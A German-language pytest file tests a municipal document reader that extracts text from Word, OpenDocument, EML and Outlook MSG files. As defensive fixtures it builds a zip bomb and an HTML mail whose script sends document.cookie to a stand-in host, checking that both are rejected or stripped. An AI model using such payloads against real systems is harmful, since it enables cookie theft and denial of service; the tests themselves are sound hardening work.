"""Texte aus DOCX/ODT und Mails aus EML/MSG lesen — mit echten, im Test erzeugten Dateien."""

from __future__ import annotations

import contextlib
import io
import random
import struct
import time
import tracemalloc
import zipfile
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

import pytest

from rathausnetz.eingang.mail import MAX_ANHAENGE, MSG_MIME, Anhang, Mail, html_zu_text, mail_lesen
from rathausnetz.eingang.office import UnlesbareDatei, docx_text, odt_text

# --- DOCX / ODT ----------------------------------------------------------------------------------


def test_docx_absaetze_und_tabelle_in_reihenfolge(tmp_path: Path) -> None:
    import docx

    dokument = docx.Document()
    dokument.add_heading("Bescheid über die Baugenehmigung", level=1)
    dokument.add_paragraph("Sehr geehrte Frau Müller, Ihr Antrag für Flurstück 12/3 in Großröhrsdorf …")
    tabelle = dokument.add_table(rows=2, cols=2)
    tabelle.cell(0, 0).text = "Gebühr"
    tabelle.cell(0, 1).text = "150,00 €"
    tabelle.cell(1, 0).text = "Fälligkeit"
    tabelle.cell(1, 1).text = "14 Tage"
    dokument.add_paragraph("Mit freundlichen Grüßen, Ihr Bauamt")
    pfad = tmp_path / "bescheid.docx"
    dokument.save(str(pfad))

    text = docx_text(pfad)

    assert text.splitlines() == [
        "Bescheid über die Baugenehmigung",
        "Sehr geehrte Frau Müller, Ihr Antrag für Flurstück 12/3 in Großröhrsdorf …",
        "Gebühr",
        "150,00 €",
        "Fälligkeit",
        "14 Tage",
        "Mit freundlichen Grüßen, Ihr Bauamt",
    ]


def test_docx_verbundene_zellen_nur_einmal(tmp_path: Path) -> None:
    import docx

    dokument = docx.Document()
    tabelle = dokument.add_table(rows=1, cols=3)
    zelle = tabelle.cell(0, 0).merge(tabelle.cell(0, 1))
    zelle.text = "Zusammengefasst"
    tabelle.cell(0, 2).text = "Rechts"
    pfad = tmp_path / "verbunden.docx"
    dokument.save(str(pfad))

    assert docx_text(pfad).splitlines() == ["Zusammengefasst", "Rechts"]


def test_odt_ueberschrift_absatz_liste_tabelle(tmp_path: Path) -> None:
    from odf.opendocument import OpenDocumentText
    from odf.table import Table, TableCell, TableColumn, TableRow
    from odf.text import H, List, ListItem, P

    dokument = OpenDocumentText()
    dokument.text.addElement(H(outlinelevel=1, text="Niederschrift der Ratssitzung"))
    dokument.text.addElement(P(text="Anwesend: Bürgermeisterin Weiß, Herr Öztürk"))
    liste = List()
    for punkt in ("Straßenausbau Lindenstraße", "Haushaltsplan 2026"):
        eintrag = ListItem()
        eintrag.addElement(P(text=punkt))
        liste.addElement(eintrag)
    dokument.text.addElement(liste)
    tabelle = Table(name="Abstimmung")
    tabelle.addElement(TableColumn(numbercolumnsrepeated=2))
    for links, rechts in (("Ja-Stimmen", "12"), ("Enthaltungen", "3")):
        reihe = TableRow()
        for wert in (links, rechts):
            zelle = TableCell()
            zelle.addElement(P(text=wert))
            reihe.addElement(zelle)
        tabelle.addElement(reihe)
    dokument.text.addElement(tabelle)
    pfad = tmp_path / "niederschrift.odt"
    dokument.save(str(pfad))

    assert odt_text(pfad).splitlines() == [
        "Niederschrift der Ratssitzung",
        "Anwesend: Bürgermeisterin Weiß, Herr Öztürk",
        "Straßenausbau Lindenstraße",
        "Haushaltsplan 2026",
        "Ja-Stimmen",
        "12",
        "Enthaltungen",
        "3",
    ]


def _zip_bombe(pfad: Path, mitglied: str) -> None:
    """200 MB Nullen in einem Mitglied; die Datei selbst ist nur wenige hundert Kilobyte groß."""
    null_mb = bytes(1024 * 1024)
    with zipfile.ZipFile(pfad, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archiv:
        archiv.writestr("[Content_Types].xml", "<Types/>")
        with archiv.open(mitglied, "w", force_zip64=True) as strom:
            for _ in range(200):
                strom.write(null_mb)


@pytest.mark.parametrize(
    ("name", "leser", "mitglied"),
    [("bombe.docx", docx_text, "word/document.xml"), ("bombe.odt", odt_text, "content.xml")],
)
def test_zip_bombe_wird_vor_dem_entpacken_abgewiesen(tmp_path: Path, name: str, leser, mitglied: str) -> None:
    pfad = tmp_path / name
    _zip_bombe(pfad, mitglied)
    assert pfad.stat().st_size < 5 * 1024 * 1024

    tracemalloc.start()
    beginn = time.monotonic()
    try:
        with pytest.raises(UnlesbareDatei, match="Sicherheitsgründen"):
            leser(pfad)
        dauer = time.monotonic() - beginn
        _, spitze = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert dauer < 10  # grob: unter Last geteilter CI-Rechner; entscheidend ist der Speicher
    assert spitze < 5 * 1024 * 1024


@pytest.mark.parametrize(
    "inhalt",
    [b"", b"Das ist kein Word-Dokument", b"PK\x03\x04" + bytes(100), b"%PDF-1.7\n"],
    ids=["leer", "text", "kaputtes-zip", "pdf"],
)
def test_kaputte_docx_und_odt(tmp_path: Path, inhalt: bytes) -> None:
    pfad = tmp_path / "kaputt.docx"
    pfad.write_bytes(inhalt)
    with pytest.raises(UnlesbareDatei, match="Die Word-Datei ist beschädigt"):
        docx_text(pfad)
    with pytest.raises(UnlesbareDatei, match="Die OpenDocument-Datei ist beschädigt"):
        odt_text(pfad)


def test_zip_ohne_dokument_und_kaputtes_xml(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    leer = tmp_path / "leer.docx"
    with zipfile.ZipFile(leer, "w") as archiv:
        archiv.writestr("hallo.txt", "kein Dokument")
    with pytest.raises(UnlesbareDatei):
        docx_text(leer)

    kaputt = tmp_path / "kaputt.odt"
    with zipfile.ZipFile(kaputt, "w") as archiv:
        archiv.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archiv.writestr("META-INF/manifest.xml", _ODF_MANIFEST)
        archiv.writestr("content.xml", "<office:document-content><geheimer Akteninhalt")
    with pytest.raises(UnlesbareDatei):
        odt_text(kaputt)
    assert "geheimer" not in capsys.readouterr().out  # odfpy würde das XML sonst ausgeben


_ODF_MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
    '<manifest:file-entry manifest:full-path="/" '
    'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    "</manifest:manifest>"
)


# --- EML ------------------------------------------------------------------------------------------


def _mail(betreff: str = "Antrag auf Sondernutzung – Straßenfest Görlitz", **kopf: str) -> EmailMessage:
    nachricht = EmailMessage()
    nachricht["Subject"] = betreff
    nachricht["From"] = kopf.get("von", "Jörg Weißbach <joerg.weissbach@example.de>")
    nachricht["To"] = kopf.get(
        "an", "Ordnungsamt Görlitz <ordnungsamt@goerlitz.example>, info@goerlitz.example"
    )
    nachricht["Date"] = format_datetime(datetime(2026, 3, 2, 9, 30, tzinfo=UTC))
    nachricht["Message-ID"] = kopf.get("message_id", "<antrag-4711@example.de>")
    return nachricht


def _pdf(nummer: int) -> bytes:
    return b"%PDF-1.4\n% Anlage " + str(nummer).encode() + b"\n%%EOF\n"


def test_eml_umlaute_in_betreff_absender_und_dateinamen() -> None:
    nachricht = _mail()
    nachricht.set_content("Sehr geehrte Damen und Herren,\nanbei der Lageplan.\nGrüße aus Görlitz")
    nachricht.add_attachment(
        _pdf(1), maintype="application", subtype="pdf", filename="Lageplan Straßenfest.pdf"
    )

    mail = mail_lesen(nachricht.as_bytes(), "eml")

    assert mail.betreff == "Antrag auf Sondernutzung – Straßenfest Görlitz"
    assert (mail.absender, mail.absender_adresse) == ("Jörg Weißbach", "joerg.weissbach@example.de")
    assert mail.an == ("ordnungsamt@goerlitz.example", "info@goerlitz.example")
    assert mail.datum == datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
    assert mail.message_id == "<antrag-4711@example.de>"
    assert mail.text == "Sehr geehrte Damen und Herren,\nanbei der Lageplan.\nGrüße aus Görlitz"
    assert mail.anhaenge == (Anhang("Lageplan Straßenfest.pdf", _pdf(1), "application/pdf"),)


def test_eml_dateinamen_rfc2047_rfc2231_und_cp1252_als_latin1() -> None:
    roh = (
        b"From: =?ISO-8859-1?Q?B=FCrgerb=FCro?= <buergerbuero@example.de>\r\n"
        b"To: amt@example.de\r\n"
        b"Subject: =?utf-8?B?R2Vow6R1c2VnZWLDvGhyZW4gZsO8ciBCw6RyYmVs?=\r\n"
        b"Date: Mon, 2 Mar 2026 10:00:00 +0100\r\n"
        b"MIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="grenze"\r\n'
        b"\r\n"
        b"--grenze\r\n"
        b"Content-Type: text/plain; charset=iso-8859-1\r\n"
        b"Content-Transfer-Encoding: 8bit\r\n"
        b"\r\n"
        b"Geb\xfchr: 25 \x80 \x84Eilt\x93\r\n"
        b"--grenze\r\n"
        b'Content-Type: application/pdf; name="=?UTF-8?Q?Bescheid_=C3=84nderung.pdf?="\r\n'
        b'Content-Disposition: attachment; filename="=?UTF-8?Q?Bescheid_=C3=84nderung.pdf?="\r\n'
        b"Content-Transfer-Encoding: base64\r\n"
        b"\r\n"
        b"JVBERi0xLjQ=\r\n"
        b"--grenze\r\n"
        b"Content-Type: text/plain\r\n"
        b"Content-Disposition: attachment; filename*=iso-8859-1''Stra%DFenliste%20%D6hringen.txt\r\n"
        b"\r\n"
        b"Liste\r\n"
        b"--grenze--\r\n"
    )

    mail = mail_lesen(roh, "eml")

    assert mail.betreff == "Gehäusegebühren für Bärbel"
    assert mail.absender == "Bürgerbüro"
    assert mail.text == "Gebühr: 25 € „Eilt“"
    assert [a.dateiname for a in mail.anhaenge] == ["Bescheid Änderung.pdf", "Straßenliste Öhringen.txt"]
    assert mail.anhaenge[0].daten == b"%PDF-1.4"


def test_eml_nur_html_mit_script_wird_sicherer_text() -> None:
    nachricht = _mail()
    nachricht.set_content(
        "<html><head><title>Titel</title><style>p { color: red }</style></head><body>"
        "<script>document.location='https://böse.example/?c='+document.cookie</script>"
        "<p>Sehr geehrte Frau M&uuml;ller,</p><p>der Termin &amp; Ort:<br>Rathaus, Saal&nbsp;2</p>"
        "<table><tr><td>Beginn</td><td>18 Uhr</td></tr></table></body></html>",
        subtype="html",
    )

    mail = mail_lesen(nachricht.as_bytes(), "eml")

    assert "document" not in mail.text and "color" not in mail.text and "Titel" not in mail.text
    assert mail.text.splitlines()[0] == "Sehr geehrte Frau Müller,"
    assert (
        "der Termin & Ort:\nRathaus, Saal\xa02" in mail.text
        or "der Termin & Ort:\nRathaus, Saal 2" in mail.text
    )
    assert "Beginn 18 Uhr" in mail.text
    assert mail.anhaenge == ()


def test_eml_text_und_html_alternative_bevorzugt_text() -> None:
    nachricht = _mail()
    nachricht.set_content("Nur Text")
    nachricht.add_alternative("<p>Nur <b>HTML</b></p>", subtype="html")
    mail = mail_lesen(nachricht.as_bytes(), "eml")
    assert mail.text == "Nur Text"
    assert mail.anhaenge == ()


def test_eml_ohne_koerper_ist_in_ordnung() -> None:
    mail = mail_lesen(b"From: a@example.de\r\nSubject: leer\r\n\r\n", "eml")
    assert (mail.betreff, mail.text, mail.anhaenge) == ("leer", "", ())


def test_eml_40_anhaenge_und_weitergeleitete_mail_mit_anhang() -> None:
    innere = _mail("Stellungnahme des Landratsamts zu Flurstück 7", message_id="<innen@lra.example>")
    innere.set_content("Die Stellungnahme liegt bei.")
    innere.add_attachment(_pdf(99), maintype="application", subtype="pdf", filename="Stellungnahme Ämter.pdf")

    aeussere = _mail("WG: Stellungnahme")
    aeussere.set_content("Zur Kenntnis, mit 40 Anlagen.")
    for nummer in range(1, 41):
        if nummer % 2:
            aeussere.add_attachment(
                _pdf(nummer), maintype="application", subtype="pdf", filename=f"Anlage {nummer}.pdf"
            )
        else:
            aeussere.add_attachment(f"Anlage Nr. {nummer} – Übersicht", filename=f"Übersicht {nummer}.txt")
    aeussere.add_attachment(innere)

    mail = mail_lesen(aeussere.as_bytes(), "eml")

    assert mail.text == "Zur Kenntnis, mit 40 Anlagen."
    assert len(mail.anhaenge) == 41
    assert mail.anhaenge[0] == Anhang("Anlage 1.pdf", _pdf(1), "application/pdf")
    assert mail.anhaenge[1].dateiname == "Übersicht 2.txt"
    assert mail.anhaenge[1].daten.decode() == "Anlage Nr. 2 – Übersicht\n"
    weitergeleitet = mail.anhaenge[40]
    assert weitergeleitet.dateiname == "Stellungnahme des Landratsamts zu Flurstück 7.eml"
    assert weitergeleitet.mime == "message/rfc822"

    innen = mail_lesen(weitergeleitet.daten, "eml")
    assert innen.betreff == "Stellungnahme des Landratsamts zu Flurstück 7"
    assert innen.message_id == "<innen@lra.example>"
    assert innen.text == "Die Stellungnahme liegt bei."
    assert innen.anhaenge == (Anhang("Stellungnahme Ämter.pdf", _pdf(99), "application/pdf"),)


def test_eml_weitergeleitete_mail_mit_rohen_8bit_bytes_bleibt_unveraendert() -> None:
    innen = (
        b"From: a@example.de\r\nSubject: Gr\xfc\xdfe roh\r\n"
        b"Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        b"Geb\xfchr 5 \x80"
    )
    aussen = (
        b"From: b@example.de\r\nSubject: WG\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/mixed; boundary=g\r\n\r\n--g\r\nContent-Type: text/plain\r\n\r\n"
        b"siehe Anhang\r\n--g\r\nContent-Type: message/rfc822\r\n\r\n" + innen + b"\r\n--g--\r\n"
    )
    anhang = mail_lesen(aussen, "eml").anhaenge[0]
    assert (anhang.dateiname, anhang.daten) == ("Grüße roh.eml", innen)
    assert (mail_lesen(anhang.daten, "eml").text) == "Gebühr 5 €"


def test_eml_mehr_als_max_anhaenge() -> None:
    nachricht = _mail()
    nachricht.set_content("Massensendung")
    for nummer in range(MAX_ANHAENGE + 1):
        nachricht.add_attachment(
            b"x", maintype="application", subtype="octet-stream", filename=f"{nummer}.bin"
        )
    with pytest.raises(UnlesbareDatei, match="mehr als 100 Anhänge"):
        mail_lesen(nachricht.as_bytes(), "eml")

    nachricht.clear_content()
    nachricht.set_content("Grenzfall")
    for nummer in range(MAX_ANHAENGE):
        nachricht.add_attachment(
            b"x", maintype="application", subtype="octet-stream", filename=f"{nummer}.bin"
        )
    assert len(mail_lesen(nachricht.as_bytes(), "eml").anhaenge) == MAX_ANHAENGE


def test_eml_kaputte_kopfzeilen_ergeben_brauchbare_mail() -> None:
    roh = (
        b"From: <<<kaputt@@>>> ,,\r\n"
        b"To: ;;; \x00,\r\n"
        b"Subject: =?x-unbekannt?Q?Gr=FC=DFe?= aus \xe4\xf6\xfc\r\n"
        b"Date: gestern Nachmittag\r\n"
        b"Content-Type: text/plain; charset=gibtsnicht\r\n"
        b'Content-Disposition: attachment; filename="a\x00b.txt\r\n'
        b"Content-Transfer-Encoding: base64\r\n"
        b"\r\n"
        b"!!!kein base64???\r\n"
    )
    mail = mail_lesen(roh, "eml")
    assert isinstance(mail, Mail)
    assert "aus äöü" in mail.betreff
    assert mail.datum is None
    assert all("\x00" not in a.dateiname for a in mail.anhaenge)


@pytest.mark.parametrize("kodiert", ["utf-8", "cp1252"])
def test_eml_rohe_8bit_dateinamen(kodiert: str) -> None:
    roh = (
        b"From: a@example.de\r\nSubject: Anlage\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="g"\r\n\r\n--g\r\n'
        b"Content-Type: text/plain\r\n\r\nText\r\n--g\r\n"
        b"Content-Type: application/pdf\r\n"
        b'Content-Disposition: attachment; filename="'
        + "Gebührenbescheid Größe.pdf".encode(kodiert)
        + b'"\r\n'
        b"\r\n%PDF\r\n--g--\r\n"
    )
    assert [a.dateiname for a in mail_lesen(roh, "eml").anhaenge] == ["Gebührenbescheid Größe.pdf"]


def test_eml_nul_in_dateinamen_wird_entfernt() -> None:
    nachricht = _mail()
    nachricht.set_content("x")
    nachricht.add_attachment(b"x", maintype="application", subtype="pdf", filename="rechnung.pdf")
    roh = nachricht.as_bytes().replace(b'filename="rechnung.pdf"', b'filename="rech\x00nung.pdf"')
    assert mail_lesen(roh, "eml").anhaenge[0].dateiname == "rechnung.pdf"


def test_eml_beliebige_kaputte_bytes_nie_andere_ausnahme() -> None:
    vorlage = _mail()
    vorlage.set_content("Text mit Ümlauten")
    vorlage.add_attachment(_pdf(1), maintype="application", subtype="pdf", filename="Ä.pdf")
    innen = _mail("innen")
    innen.set_content("innen")
    vorlage.add_attachment(innen)
    gut = vorlage.as_bytes()
    zufall = random.Random(4711)  # fester Startwert: reproduzierbar, kein flackernder Test
    proben = [
        b"",
        b"\x00" * 100,
        bytes(range(256)) * 4,
        b"--\r\n" * 50,
        b"Content-Type: multipart/mixed\r\n\r\n",
    ]
    proben += [gut[: zufall.randrange(len(gut))] for _ in range(60)]
    for _ in range(150):
        kaputt = bytearray(gut)
        for _ in range(zufall.randint(1, 30)):
            kaputt[zufall.randrange(len(kaputt))] = zufall.randrange(256)
        proben.append(bytes(kaputt))
    proben.append(
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
        + b"--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" * 500
    )

    for probe in proben:
        with contextlib.suppress(UnlesbareDatei):
            assert isinstance(mail_lesen(probe, "eml"), Mail)


def test_html_zu_text_unausgewogene_tags() -> None:
    assert html_zu_text("<script>nie<p>zeigen") == ""
    assert html_zu_text("</script>Hallo <b>Welt") == "Hallo Welt"


# --- MSG ------------------------------------------------------------------------------------------
# extract_msg kann keine Nachrichten erzeugen, bringt aber einen CFB-Schreiber mit (OleWriter). Damit
# bauen wir eine MSG-Datei nach MS-OXMSG: Eigenschaftenströme, Empfänger, Anhänge, eingebettete Mail.


def _eigenschaft(tag: int, wert: int = 0) -> bytes:
    return struct.pack("<IIQ", tag, 6, wert)


def _variabel(tag: int, laenge: int) -> bytes:
    return struct.pack("<IIII", tag, 6, laenge, 0)


def _utf16(text: str) -> bytes:
    return text.encode("utf-16-le")


def _msg_schreiben(schreiber, pfad: list[str], nachricht: dict, kopf_laenge: int) -> None:
    stroeme = {
        "__substg1.0_001A001F": _utf16("IPM.Note"),
        "__substg1.0_0037001F": _utf16(nachricht["betreff"]),
        "__substg1.0_1000001F": _utf16(nachricht["text"]),
        "__substg1.0_0C1A001F": _utf16(nachricht["absender"][0]),
        "__substg1.0_5D01001F": _utf16(nachricht["absender"][1]),
        "__substg1.0_1035001F": _utf16(nachricht["message_id"]),
    }
    eigenschaften = [_eigenschaft(0x340D0003, 0x40000)]  # STORE_UNICODE_OK: Zeichenketten in UTF-16
    for name, daten in stroeme.items():
        eigenschaften.append(_variabel(int(name[-8:], 16), len(daten) + 2))
        schreiber.addEntry([*pfad, name], daten)
    empfaenger, anhaenge = nachricht["an"], nachricht["anhaenge"]
    kopf = struct.pack("<8sIIII", b"", len(empfaenger), len(anhaenge), len(empfaenger), len(anhaenge))
    if kopf_laenge == 32:
        kopf += bytes(8)
    schreiber.addEntry([*pfad, "__properties_version1.0"], kopf + b"".join(eigenschaften))

    for nummer, (name, adresse) in enumerate(empfaenger):
        ort = [*pfad, f"__recip_version1.0_#{nummer:08X}"]
        schreiber.addEntry(ort, storage=True)
        schreiber.addEntry([*ort, "__substg1.0_3001001F"], _utf16(name))
        schreiber.addEntry([*ort, "__substg1.0_39FE001F"], _utf16(adresse))
        schreiber.addEntry([*ort, "__substg1.0_3003001F"], _utf16(adresse))
        werte = [_eigenschaft(0x0C150003, 1), _eigenschaft(0x30000003, nummer)]  # Empfängertyp „An“
        schreiber.addEntry([*ort, "__properties_version1.0"], bytes(8) + b"".join(werte))

    for nummer, (name, inhalt) in enumerate(anhaenge):
        ort = [*pfad, f"__attach_version1.0_#{nummer:08X}"]
        schreiber.addEntry(ort, storage=True)
        werte = [_eigenschaft(0x0E210003, nummer)]
        if isinstance(inhalt, dict):  # eingebettete Outlook-Nachricht (ATTACH_EMBEDDED_MSG)
            werte += [_eigenschaft(0x37050003, 5), _eigenschaft(0x3701000D, 0xFFFFFFFF)]
            schreiber.addEntry([*ort, "__substg1.0_3701000D"], storage=True)
            _msg_schreiben(schreiber, [*ort, "__substg1.0_3701000D"], inhalt, 24)
        else:  # gewöhnliche Datei (ATTACH_BY_VALUE)
            werte += [_eigenschaft(0x37050003, 1), _variabel(0x3707001F, len(_utf16(name)) + 2)]
            werte.append(_variabel(0x37010102, len(inhalt)))
            schreiber.addEntry([*ort, "__substg1.0_3707001F"], _utf16(name))
            schreiber.addEntry([*ort, "__substg1.0_37010102"], inhalt)
        schreiber.addEntry([*ort, "__properties_version1.0"], bytes(8) + b"".join(werte))


def _msg_datei(nachricht: dict) -> bytes:
    from extract_msg.ole_writer import OleWriter

    schreiber = OleWriter()
    schreiber.addEntry(["__nameid_version1.0"], storage=True)
    for strom in ("__substg1.0_00020102", "__substg1.0_00030102", "__substg1.0_00040102"):
        schreiber.addEntry(["__nameid_version1.0", strom], b"")
    _msg_schreiben(schreiber, [], nachricht, 32)
    ausgabe = io.BytesIO()
    schreiber.write(ausgabe)
    return ausgabe.getvalue()


def _outlook_mail(anhaenge: list) -> dict:
    return {
        "betreff": "Bauantrag Müller – Nachreichung",
        "text": "Sehr geehrte Damen und Herren,\r\nanbei die fehlenden Unterlagen.",
        "absender": ("Grün, Jörg", "joerg.gruen@example.de"),
        "an": [("Bauamt Zittau", "bauamt@zittau.example"), ("Köhler, Anja", "anja.koehler@zittau.example")],
        "message_id": "<outlook-1@example.de>",
        "anhaenge": anhaenge,
    }


def test_msg_mit_anhang_und_eingebetteter_nachricht() -> None:
    eingebettet = _outlook_mail([("Innen Übersicht.txt", b"innere Anlage")])
    eingebettet["betreff"] = "Ursprüngliche Nachricht"
    daten = _msg_datei(_outlook_mail([("Lageplan Süd.pdf", _pdf(1) * 50), ("", eingebettet)]))

    mail = mail_lesen(daten, "msg")

    assert mail.betreff == "Bauantrag Müller – Nachreichung"
    assert (mail.absender, mail.absender_adresse) == ("Grün, Jörg", "joerg.gruen@example.de")
    assert mail.an == ("bauamt@zittau.example", "anja.koehler@zittau.example")
    assert mail.message_id == "<outlook-1@example.de>"
    assert mail.text == "Sehr geehrte Damen und Herren,\r\nanbei die fehlenden Unterlagen."
    assert mail.anhaenge[0] == Anhang("Lageplan Süd.pdf", _pdf(1) * 50, "application/pdf")
    innen = mail.anhaenge[1]
    assert (innen.dateiname, innen.mime) == ("Ursprüngliche Nachricht.msg", MSG_MIME)

    innen_mail = mail_lesen(innen.daten, "msg")
    assert innen_mail.betreff == "Ursprüngliche Nachricht"
    assert innen_mail.anhaenge == (Anhang("Innen Übersicht.txt", b"innere Anlage", "text/plain"),)


def test_msg_mehr_als_max_anhaenge() -> None:
    daten = _msg_datei(_outlook_mail([(f"{n}.txt", b"x") for n in range(MAX_ANHAENGE + 1)]))
    with pytest.raises(UnlesbareDatei, match="mehr als 100 Anhänge"):
        mail_lesen(daten, "msg")


def test_msg_kaputt() -> None:
    gut = _msg_datei(_outlook_mail([("a.txt", b"a")]))
    zufall = random.Random(815)
    proben = [
        b"",
        b"keine Outlook-Datei",
        gut[:512],
        gut[: len(gut) // 2],
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    ]
    for _ in range(40):
        kaputt = bytearray(gut)
        for _ in range(zufall.randint(1, 20)):
            kaputt[zufall.randrange(len(kaputt))] = zufall.randrange(256)
        proben.append(bytes(kaputt))
    with pytest.raises(UnlesbareDatei, match="keine Outlook-Nachricht"):
        mail_lesen(b"From: x@example.de\r\n\r\nText", "msg")
    for probe in proben:
        with contextlib.suppress(UnlesbareDatei):
            assert isinstance(mail_lesen(probe, "msg"), Mail)


def test_unbekannte_art() -> None:
    with pytest.raises(ValueError, match="Unbekannte Mail-Art"):
        mail_lesen(b"", "pst")
